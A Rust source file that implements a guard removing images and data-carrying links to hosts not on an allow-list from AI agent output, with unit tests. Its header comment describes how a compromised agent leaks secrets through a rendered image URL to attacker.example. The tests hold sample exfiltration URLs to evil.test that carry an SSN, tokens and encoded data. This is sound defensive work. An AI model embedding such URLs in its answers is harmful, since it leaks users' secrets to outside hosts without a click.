//! The markdown/URL exfiltration guard.
//!
//! A compromised agent can leak data without calling any tool: it writes
//! `![](https://attacker.example/p.png?d=SECRET)` into its answer, and the chat client
//! that renders the answer fetches the image — zero clicks. This guard removes, from
//! agent output, every image whose host is not allow-listed (a fetch alone leaks) and
//! every link or bare URL to a host not allow-listed whose URL carries data (a query,
//! a fragment, credentials, or a long encoded path segment). Link text is kept.

use std::sync::OnceLock;

use regex::{Captures, Regex};
use serde::{Deserialize, Serialize};

/// What was removed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RemovedUrl {
    /// `image` or `link`.
    pub kind: String,
    /// The host it pointed to.
    pub host: String,
    /// Why: `image from a host not allow-listed` or `carries data to a host not allow-listed`.
    pub reason: String,
}

/// Output with exfiltrating links and images removed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Defanged {
    /// The text to send.
    pub text: String,
    /// What was removed.
    pub removed: Vec<RemovedUrl>,
}

/// Hosts output may link to; everything else loses data-carrying links and images.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExfilGuard {
    /// Allowed hosts; an entry also allows its subdomains.
    pub allow_hosts: Vec<String>,
}

struct Patterns {
    md_image: Regex,
    md_link: Regex,
    md_reference: Regex,
    html_img: Regex,
    html_link: Regex,
    bare: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let re = |p: &str| Regex::new(p).expect("the constant URL patterns compile");
        Patterns {
            md_image: re(r#"!\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)"#),
            md_link: re(r#"\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)"#),
            md_reference: re(r#"(?m)^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*$"#),
            html_img: re(r#"(?is)<img\b[^>]*>"#),
            html_link: re(r#"(?is)<a\b[^>]*\bhref\s*=\s*["']?([^"'\s>]+)["']?[^>]*>(.*?)</a>"#),
            bare: re(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"'\)\]]+"#),
        }
    })
}

impl ExfilGuard {
    /// A guard allowing `hosts` (and their subdomains).
    pub fn allowing<I, S>(hosts: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        ExfilGuard {
            allow_hosts: hosts
                .into_iter()
                .map(|h| h.into().trim_start_matches('.').to_ascii_lowercase())
                .collect(),
        }
    }

    fn allowed(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.allow_hosts.iter().any(|a| {
            host == *a
                || (host.len() > a.len()
                    && host.ends_with(a.as_str())
                    && host.as_bytes()[host.len() - a.len() - 1] == b'.')
        })
    }

    /// Removes exfiltrating images and links from `text`.
    pub fn defang(&self, text: &str) -> Defanged {
        let mut removed = Vec::new();
        if !text.contains("://") {
            return Defanged {
                text: text.to_string(),
                removed,
            };
        }
        let p = patterns();
        let text = p
            .md_image
            .replace_all(text, |c: &Captures<'_>| {
                self.image(&c[2], &c[0], &mut removed)
            })
            .into_owned();
        let text = p
            .html_img
            .replace_all(&text, |c: &Captures<'_>| match src_of(&c[0]) {
                Some(src) => self.image(&src, &c[0], &mut removed),
                None => c[0].to_string(),
            })
            .into_owned();
        let text = p
            .md_link
            .replace_all(&text, |c: &Captures<'_>| {
                self.link(&c[2], &c[1], &c[0], &mut removed)
            })
            .into_owned();
        let text = p
            .html_link
            .replace_all(&text, |c: &Captures<'_>| {
                self.link(&c[1], &c[2], &c[0], &mut removed)
            })
            .into_owned();
        let text = p
            .md_reference
            .replace_all(&text, |c: &Captures<'_>| {
                let label = format!("[{}]:", &c[1]);
                self.link(&c[2], &label, &c[0], &mut removed)
            })
            .into_owned();
        // Bare URLs: renderers turn them into links.
        let text = p
            .bare
            .replace_all(&text, |c: &Captures<'_>| {
                self.link(&c[0], "", &c[0], &mut removed)
            })
            .into_owned();
        Defanged { text, removed }
    }

    fn image(&self, url: &str, whole: &str, removed: &mut Vec<RemovedUrl>) -> String {
        match host_of(url) {
            Some(host) if self.allowed(&host) => whole.to_string(),
            Some(host) => {
                let out = format!("[image removed: {host} is not allow-listed]");
                removed.push(RemovedUrl {
                    kind: "image".into(),
                    host,
                    reason: "image from a host not allow-listed".into(),
                });
                out
            }
            // Relative or data: URLs fetch nothing remote.
            None => whole.to_string(),
        }
    }

    fn link(&self, url: &str, label: &str, whole: &str, removed: &mut Vec<RemovedUrl>) -> String {
        let Ok(parsed) = url::Url::parse(url) else {
            return whole.to_string();
        };
        let Some(host) = parsed.host_str().map(str::to_ascii_lowercase) else {
            return whole.to_string();
        };
        if self.allowed(&host) || !carries_data(&parsed) {
            return whole.to_string();
        }
        let out = if label.is_empty() {
            format!("[link removed: {host} is not allow-listed]")
        } else {
            format!("{label} [link removed: {host} is not allow-listed]")
        };
        removed.push(RemovedUrl {
            kind: "link".into(),
            host,
            reason: "carries data to a host not allow-listed".into(),
        });
        out
    }
}

fn src_of(tag: &str) -> Option<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?i)\bsrc\s*=\s*["']?([^"'\s>]+)"#)
            .expect("the constant src pattern compiles")
    });
    re.captures(tag).map(|c| c[1].to_string())
}

fn host_of(url: &str) -> Option<String> {
    let parsed = url::Url::parse(url.trim()).ok()?;
    if !matches!(parsed.scheme(), "http" | "https" | "ftp" | "ws" | "wss") {
        return None;
    }
    parsed.host_str().map(str::to_ascii_lowercase)
}

/// Whether a URL can carry data to its host beyond the bare page address.
fn carries_data(url: &url::Url) -> bool {
    if url.query().is_some_and(|q| !q.is_empty())
        || url.fragment().is_some_and(|f| !f.is_empty())
        || !url.username().is_empty()
        || url.password().is_some()
    {
        return true;
    }
    url.path_segments().is_some_and(|mut segs| {
        segs.any(|s| {
            s.len() >= 24
                && s.bytes().all(|b| {
                    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'=' | b'%' | b'+')
                })
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn guard() -> ExfilGuard {
        ExfilGuard::allowing(["acme.example"])
    }

    #[test]
    fn zero_click_image_exfiltration_is_removed() {
        let out = guard()
            .defang("Summary done. ![loading](https://evil.test/pixel.png?d=SSN%20123-45-6789)");
        assert_eq!(
            out.text,
            "Summary done. [image removed: evil.test is not allow-listed]"
        );
        assert_eq!(out.removed.len(), 1);
        assert_eq!(out.removed[0].host, "evil.test");
    }

    #[test]
    fn any_image_from_an_unknown_host_is_removed_allowed_ones_stay() {
        let out = guard()
            .defang("![a](https://cdn.evil.test/a.png) ![b](https://img.acme.example/b.png)");
        assert_eq!(
            out.text,
            "[image removed: cdn.evil.test is not allow-listed] ![b](https://img.acme.example/b.png)"
        );
    }

    #[test]
    fn data_carrying_links_lose_their_url_plain_links_stay() {
        let out = guard().defang(
            "See [the docs](https://docs.rs/regex) or [click](https://evil.test/c?secret=abc) \
             and https://evil.test/x#token=1 and https://www.acme.example/p?q=1",
        );
        assert_eq!(
            out.text,
            "See [the docs](https://docs.rs/regex) or click [link removed: evil.test is not allow-listed] \
             and [link removed: evil.test is not allow-listed] and https://www.acme.example/p?q=1"
        );
        assert_eq!(out.removed.len(), 2);
    }

    #[test]
    fn html_and_reference_forms_are_covered() {
        let out = guard().defang(
            "<img src=\"https://evil.test/i.gif?c=42\"> <a href='https://evil.test/?k=v'>here</a>\n\n[r]: https://evil.test/ref?d=1\n",
        );
        assert!(!out.text.contains("evil.test/"), "{}", out.text);
        assert_eq!(out.removed.len(), 3, "{:?}", out.removed);
    }

    #[test]
    fn lookalike_hosts_are_not_subdomains() {
        let out = guard().defang("![x](https://evilacme.example/a.png)");
        assert_eq!(out.removed.len(), 1);
    }

    #[test]
    fn encoded_path_segments_count_as_data() {
        let out = guard().defang("[x](https://evil.test/ZXhmaWx0cmF0ZWQgc2VjcmV0IGRhdGE=)");
        assert_eq!(out.removed.len(), 1);
    }
}
